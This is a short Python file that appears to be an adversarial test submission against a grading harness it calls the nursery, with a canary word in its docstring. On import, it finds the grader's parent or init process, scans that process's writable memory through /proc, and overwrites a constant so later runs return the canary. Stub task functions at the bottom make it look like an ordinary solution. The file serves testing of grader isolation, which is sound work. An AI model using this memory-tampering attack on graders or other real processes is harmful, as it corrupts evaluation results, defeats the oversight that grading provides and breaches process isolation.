"""Overwrites a constant of this very file in the nursery's memory, so that later executions have another one.

family: between_submissions
aims-at: canary
canary: word racecourse-canary-writes_into_the_nursery
"""

import sys

HELD = b"racecourse-untouched-nnnnnnnnnnnnnnnnnnnnn"


def pieces(pid):
    for line in sys.modules["io"].open(f"/proc/{pid}/maps"):
        span, rights = line.split()[:2]
        low, high = (int(one, 16) for one in span.split("-"))
        if rights.startswith("rw") and high - low < 1 << 27:
            yield low, high - low


def overwrite(pid):
    wanted = HELD.replace(b"untouched-nnnnnnnnnnnnnnnnnnnnn", b"canary-writes_into_the_nursery!")
    with sys.modules["io"].open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        for low, size in pieces(pid):
            memory.seek(low)
            data = memory.read(size)
            at = data.find(HELD)
            while at >= 0:
                memory.seek(low + at)
                memory.write(wanted)
                at = data.find(HELD, at + 1)


def attack():
    posix = sys.modules["posix"]
    for pid in (posix.getppid(), 1):
        try:
            words = sys.modules["io"].open(f"/proc/{pid}/cmdline", "rb").read()
            if b"grader.subject.nursery" in words:
                overwrite(pid)
        except (OSError, ValueError, OverflowError):
            continue


attack()


def search(name):
    return HELD.decode() if b"canary" in HELD else None


def buy(name):
    return None


def run(name, mutex):
    return search(name)
